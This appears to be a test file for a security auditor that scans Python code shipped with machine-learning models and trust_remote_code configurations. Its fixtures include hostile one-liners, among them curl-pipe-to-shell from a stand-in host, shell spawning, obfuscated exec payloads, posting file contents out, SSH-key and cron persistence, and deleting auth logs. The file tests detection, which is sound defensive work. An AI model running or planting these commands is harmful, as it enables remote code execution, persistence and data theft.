/** Shipped Python code and trust_remote_code, audited end to end like a user would. */
import { describe, expect, it } from 'vitest';
import { BUILT_IN_MODEL_RULES, BUILT_IN_RULES } from '../../src/assay.js';
import type { Finding } from '../../src/core/finding.js';
import type { Fact } from '../../src/formats/facts.js';
import { PythonAnalyser } from '../../src/formats/python-code.js';
import { auditFiles } from '../helpers.js';

/** Audits a folder of text files with every built-in rule. */
async function auditModel(files: Record<string, string>) {
  return auditFiles(files);
}

/** Findings of the code and secret rules only (other rules judge configs too). */
const mine = (findings: Finding[]) => findings.filter((finding) => /^security\/(python-|secret-)/.test(finding.ruleId));

async function codeFindings(code: string, name = 'modeling_x.py') {
  const report = await auditFiles({ [name]: code });
  return mine(report.findings);
}

const BENIGN_MODELING = `# coding=utf-8
"""PyTorch X model."""
import math
from typing import Optional, Tuple, Union

import torch
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging
from .configuration_x import XConfig

logger = logging.get_logger(__name__)


class XAttention(nn.Module):
    def __init__(self, config: XConfig):
        super().__init__()
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // self.num_heads
        self.scale = 1 / math.sqrt(self.head_dim)
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size, bias=config.qkv_bias)
        self.key_proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden_states: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
        q, k, v = self.qkv(hidden_states).chunk(3, dim=-1)
        scores = torch.matmul(q, k.transpose(-1, -2)) * self.scale
        if mask is not None:
            scores = scores + mask
        probs = nn.functional.softmax(scores, dim=-1, dtype=torch.float32).to(q.dtype)
        return (torch.matmul(probs, v),)

    def compile(self, x):
        return self.eval()


class XPreTrainedModel(PreTrainedModel):
    config_class = XConfig
    base_model_prefix = "x"

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)


class XModel(XPreTrainedModel):
    def save_extra(self, save_directory):
        with open(os.path.join(save_directory, "extra.json"), "w") as f:
            f.write(f"{self.config.to_json_string()}")
        state = torch.load(os.path.join(save_directory, "x.bin"), map_location="cpu", weights_only=True)
        arrays = numpy.load("stats.npy")
        settings = yaml.load(text, Loader=yaml.SafeLoader)
        exec("x = 1")
        module = __import__("math")
        logger.info(f"loaded {len(state)} tensors from {save_directory!r:>10}")
        return state
`;

const BENIGN_CONFIGURATION = `from transformers import PretrainedConfig

class XConfig(PretrainedConfig):
    model_type = "x"

    def __init__(self, hidden_size=64, num_attention_heads=4, qkv_bias=True, **kwargs):
        self.hidden_size = hidden_size
        self.num_attention_heads = num_attention_heads
        self.qkv_bias = qkv_bias
        super().__init__(**kwargs)
`;

const AUTO_MAP_CONFIG = JSON.stringify({
  architectures: ['XModel'],
  auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: 'modeling_x.XModel' },
  model_type: 'x',
});

describe('benign modelling code', () => {
  it('transformers-style modeling and configuration files have no code findings', async () => {
    const report = await auditFiles({
      'modeling_x.py': BENIGN_MODELING,
      'configuration_x.py': BENIGN_CONFIGURATION,
      'config.json': JSON.stringify({ architectures: ['XModel'], hidden_size: 64 }),
    });
    expect(mine(report.findings), JSON.stringify(mine(report.findings), null, 1)).toEqual([]);
  });

  it('literal exec strings and __import__ of literal names are read, not flagged', async () => {
    expect(await codeFindings('exec("import math\\nx = math.pi")\nm = __import__("json")\n')).toEqual([]);
  });
});

/** [description, code, rule, severity, line] */
const MALICIOUS: [string, string, string, Finding['severity'], number][] = [
  ['os.system', 'import os\nos.system("curl evil.sh | sh")\n', 'security/python-shell', 'critical', 2],
  ['an import alias', 'import os as o\no.system("id")\n', 'security/python-shell', 'critical', 2],
  ['a from-import alias', 'from subprocess import Popen as P\nP(["id"])\n', 'security/python-shell', 'critical', 2],
  ['os.popen', 'import os\nout = os.popen("id").read()\n', 'security/python-shell', 'critical', 2],
  ['pty.spawn', 'import pty\npty.spawn("/bin/sh")\n', 'security/python-shell', 'critical', 2],
  ['getattr(__import__())', "getattr(__import__('os'), 'system')('id')\n", 'security/python-shell', 'critical', 1],
  ['sys.modules', "import sys\nsys.modules['subprocess'].run(['id'])\n", 'security/python-shell', 'critical', 2],
  ['concatenated names', '__import__("o" + "s").system("id")\n', 'security/python-shell', 'critical', 1],
  ['a star import', 'from os import *\nsystem("id")\n', 'security/python-shell', 'critical', 2],
  ['code inside an exec string', 'exec("import os; os.system(\'id\')")\n', 'security/python-shell', 'critical', 1],
  ['code inside an f-string', "value = f\"{__import__('os').system('id')}\"\n", 'security/python-shell', 'critical', 1],
  ['a lambda', 'run = lambda c: __import__("subprocess").check_output(c)\n', 'security/python-shell', 'critical', 1],
  [
    'exec(base64.b64decode())',
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
    'security/python-obfuscated-exec',
    'critical',
    2,
  ],
  [
    'a decoded variable',
    'import zlib, base64\npayload = zlib.decompress(base64.b64decode(blob))\n\nexec(payload)\n',
    'security/python-obfuscated-exec',
    'critical',
    4,
  ],
  ['marshal.loads', 'import marshal\ncode = marshal.loads(data)\n', 'security/python-obfuscated-exec', 'critical', 2],
  ['eval of a variable', 'eval(user_expression)\n', 'security/python-exec', 'high', 1],
  ['compile of a variable', 'code = compile(source, "<x>", "exec")\n', 'security/python-exec', 'high', 1],
  ['builtins.exec', 'import builtins\nbuiltins.exec(source)\n', 'security/python-exec', 'high', 2],
  ['socket', 'import socket\ns = socket.socket()\n', 'security/python-network', 'high', 2],
  ['urllib', 'from urllib.request import urlopen\nurlopen("http://x")\n', 'security/python-network', 'high', 2],
  [
    'requests',
    'import requests\nrequests.post("http://x", data=open("a").read())\n',
    'security/python-network',
    'high',
    2,
  ],
  ['http.client', 'import http.client\nc = http.client.HTTPSConnection("x")\n', 'security/python-network', 'high', 2],
  ['httpx', 'import httpx\nhttpx.get("http://x")\n', 'security/python-network', 'high', 2],
  [
    'aiohttp',
    'import aiohttp\nasync with aiohttp.ClientSession() as s:\n  pass\n',
    'security/python-network',
    'high',
    2,
  ],
  [
    'pickle.load',
    'import pickle\nobj = pickle.load(open("x.pkl", "rb"))\n',
    'security/python-unsafe-deserialization',
    'high',
    2,
  ],
  ['torch.load', 'import torch\nsd = torch.load("x.bin")\n', 'security/python-unsafe-deserialization', 'high', 2],
  [
    'torch.load(weights_only=False)',
    'import torch\nsd = torch.load("x.bin", weights_only=False)\n',
    'security/python-unsafe-deserialization',
    'high',
    2,
  ],
  ['joblib.load', 'import joblib\nm = joblib.load("m.joblib")\n', 'security/python-unsafe-deserialization', 'high', 2],
  ['dill.loads', 'import dill\nf = dill.loads(blob)\n', 'security/python-unsafe-deserialization', 'high', 2],
  [
    'numpy allow_pickle',
    'import numpy as np\na = np.load("a.npy", allow_pickle=True)\n',
    'security/python-unsafe-deserialization',
    'high',
    2,
  ],
  ['yaml.load', 'import yaml\nc = yaml.load(text)\n', 'security/python-unsafe-deserialization', 'high', 2],
  ['torch.hub.load', 'import torch\nm = torch.hub.load("x/y", "m")\n', 'security/python-remote-code', 'high', 2],
  [
    'trust_remote_code=True',
    'from transformers import AutoModel\nm = AutoModel.from_pretrained("x/y", trust_remote_code=True)\n',
    'security/python-remote-code',
    'high',
    2,
  ],
  ['__import__ of a variable', 'm = __import__(name)\n', 'security/python-dynamic-import', 'high', 1],
  [
    'import_module of a variable',
    'import importlib\nm = importlib.import_module(n)\n',
    'security/python-dynamic-import',
    'high',
    2,
  ],
  ['ctypes', 'import ctypes\nlib = ctypes.CDLL("libc.so.6")\n', 'security/python-native-code', 'high', 2],
  [
    'setattr on a module',
    'import torch\nsetattr(torch, "load", my_load)\n',
    'security/python-module-mutation',
    'high',
    2,
  ],
  ['assignment over torch.load', 'import torch\ntorch.load = my_load\n', 'security/python-module-mutation', 'high', 2],
  [
    'open(abs, "w")',
    'with open("/etc/cron.d/x", "w") as f:\n  f.write("x")\n',
    'security/python-file-outside',
    'medium',
    1,
  ],
  ['open("../", "a")', 'f = open("../../.bashrc", mode="a")\n', 'security/python-file-outside', 'medium', 1],
  [
    'open(~)',
    'import os\nf = open(os.path.expanduser("~/.ssh/authorized_keys"), "a")\n',
    'security/python-file-outside',
    'medium',
    2,
  ],
  ['shutil.rmtree', 'import shutil\nshutil.rmtree(cache)\n', 'security/python-file-outside', 'medium', 2],
  ['os.remove(abs)', 'import os\nos.remove("/var/log/auth.log")\n', 'security/python-file-outside', 'medium', 2],
  [
    'pathlib write_text',
    'from pathlib import Path\nPath("/etc/profile.d/x.sh").write_text("x")\n',
    'security/python-file-outside',
    'medium',
    2,
  ],
];

describe('dangerous calls are found with their line and code', () => {
  it.each(MALICIOUS)('%s', async (_name, code, rule, severity, line) => {
    const findings = await codeFindings(code);
    const found = findings.find((finding) => finding.ruleId === rule);
    expect(found, JSON.stringify(findings, null, 1)).toBeDefined();
    expect(found?.severity).toBe(severity);
    expect(found?.file).toBe('modeling_x.py');
    expect(found?.location?.line).toBe(line);
    expect(String(found?.evidence?.excerpt).length).toBeGreaterThan(0);
    expect(found?.message).toContain(`Line ${line}`);
  });

  it('names the resolved target, how it was spelled and the command', async () => {
    const [finding] = await codeFindings('import os as o\no.system("echo pwned")\n');
    expect(finding.evidence).toMatchObject({ target: 'os.system', via: 'o.system', argument: 'echo pwned' });
    expect(finding.message).toContain('echo pwned');
  });

  it('analyses extensionless scripts with a python shebang, and not other text', async () => {
    const script = '#!/usr/bin/env python3\nimport os\nos.system("id")\n';
    expect((await codeFindings(script, 'run')).map((finding) => finding.ruleId)).toEqual(['security/python-shell']);
    expect(await codeFindings('import os\nos.system("id")\n', 'NOTES')).toEqual([]);
  });

  it('analyses .py members of archives-free folders in subfolders too', async () => {
    const report = await auditFiles({ 'src/handler.py': 'import subprocess\nsubprocess.run(["id"])\n' });
    expect(mine(report.findings)[0]).toMatchObject({ file: 'src/handler.py', ruleId: 'security/python-shell' });
  });

  it('masks secrets in the quoted code', async () => {
    const token = `hf_${'Q7wErTy9UiOpAsDfGhJkLzXcVbNm1234ab'}`;
    const findings = await codeFindings(
      `import requests\nrequests.get(u, headers={"Authorization": "Bearer ${token}"})\n`,
    );
    const network = findings.find((finding) => finding.ruleId === 'security/python-network');
    expect(network?.evidence?.excerpt).toContain('hf_Q…');
    expect(JSON.stringify(findings)).not.toContain(token);
  });
});

describe('unreadable and hostile code', () => {
  it('reports code the tokenizer could not read (medium) and still analyses the rest', async () => {
    const findings = await codeFindings('s = "unterminated\nimport os\nos.system("id")\n');
    expect(findings.map((finding) => [finding.ruleId, finding.severity, finding.location?.line])).toEqual([
      ['security/python-shell', 'critical', 3],
      ['security/python-unparsed', 'medium', 1],
    ]);
  });

  it('stays bounded on deep nesting, long lines and many calls', async () => {
    const deep = `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\n`;
    const facts: Fact[] = [];
    new PythonAnalyser(deep, facts).run();
    expect(facts.some((fact) => fact.kind === 'limit-reached' && fact.limit === 'python-nesting')).toBe(true);
    const many: Fact[] = [];
    new PythonAnalyser(`import os\n${'os.system("id")\n'.repeat(2000)}`, many).run();
    expect(many.filter((fact) => fact.kind === 'python-sink')).toHaveLength(500);
    expect(many.some((fact) => fact.kind === 'limit-reached' && fact.limit === 'python-findings')).toBe(true);
    const chain: Fact[] = [];
    new PythonAnalyser(`a${'.b'.repeat(100_000)}()\nif x: `.repeat(3) + 'if y: '.repeat(10_000), chain).run();
    const nestedExec: Fact[] = [];
    let code = 'import os; os.system("deep")';
    for (let i = 0; i < 8; i++) code = `exec(${JSON.stringify(code)})`;
    new PythonAnalyser(code, nestedExec).run();
    expect(nestedExec.some((fact) => fact.kind === 'python-sink')).toBe(true);
  });
});

describe('trust_remote_code', () => {
  it('an auto_map makes loading need trust_remote_code (high), even when the code is clean', async () => {
    const report = await auditModel({
      'config.json': AUTO_MAP_CONFIG,
      'modeling_x.py': BENIGN_MODELING,
      'configuration_x.py': BENIGN_CONFIGURATION,
    });
    const findings = mine(report.findings);
    expect(findings.map((finding) => [finding.ruleId, finding.severity])).toEqual([
      ['security/python-trust-remote-code', 'high'],
    ]);
    expect(findings[0].message).toContain('AutoModel → modeling_x.XModel');
    expect(findings[0].message).toContain('trust_remote_code=True');
  });

  it('tokenizer_config.json auto_map lists (with nulls) are read too', async () => {
    const report = await auditModel({
      'tokenizer_config.json': JSON.stringify({ auto_map: { AutoTokenizer: ['tokenization_x.XTokenizer', null] } }),
      'tokenization_x.py': 'class XTokenizer:\n    pass\n',
    });
    expect(mine(report.findings).map((finding) => finding.ruleId)).toEqual(['security/python-trust-remote-code']);
  });

  it('a referenced file that is missing would be fetched unaudited (high)', async () => {
    const report = await auditModel({ 'config.json': AUTO_MAP_CONFIG, 'configuration_x.py': BENIGN_CONFIGURATION });
    const missing = mine(report.findings).filter((finding) => finding.ruleId === 'security/python-auto-map-code');
    expect(missing).toHaveLength(1);
    expect(missing[0]).toMatchObject({ severity: 'high', file: 'config.json' });
    expect(missing[0].message).toContain('modeling_x.py, which is not in the model');
  });

  it('code from another repository is unaudited (high)', async () => {
    const config = JSON.stringify({ auto_map: { AutoModel: 'other/repo--modeling_y.YModel' } });
    const report = await auditModel({ 'config.json': config });
    const found = mine(report.findings).find((finding) => finding.ruleId === 'security/python-auto-map-code');
    expect(found?.message).toContain('other/repo');
    expect(found?.severity).toBe('high');
  });

  it('referenced code with critical findings makes the model critical', async () => {
    const report = await auditModel({
      'sub/config.json': AUTO_MAP_CONFIG,
      'sub/configuration_x.py': BENIGN_CONFIGURATION,
      'sub/modeling_x.py': `${BENIGN_MODELING}\nimport os\nos.system("curl x | sh")\n`,
    });
    const linked = mine(report.findings).find((finding) => finding.ruleId === 'security/python-auto-map-code');
    expect(linked).toMatchObject({ severity: 'critical', file: 'sub/config.json' });
    expect(linked?.message).toContain('sub/modeling_x.py');
    expect(report.gate.exitCode).toBe(1);
  });

  it('the code rules are built in', () => {
    expect(BUILT_IN_MODEL_RULES.get('security/python-auto-map-code')).toBeDefined();
    expect(BUILT_IN_RULES.get('security/python-shell')).toBeDefined();
  });
});
